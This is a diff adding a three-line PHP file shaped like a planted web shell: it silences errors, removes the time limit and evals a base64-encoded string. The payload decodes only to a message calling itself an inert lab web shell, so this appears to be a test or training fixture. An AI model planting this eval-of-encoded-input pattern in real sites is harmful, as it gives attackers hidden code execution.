@@ -1,0 +1,3 @@
+<?php
+@error_reporting(0); @set_time_limit(0);
+@eval(base64_decode('ZWNobyAnc2hpcHNoYXBlLWxhYiBwbGFudGVkIHdlYiBzaGVsbCAoaW5lcnQpJzs='));
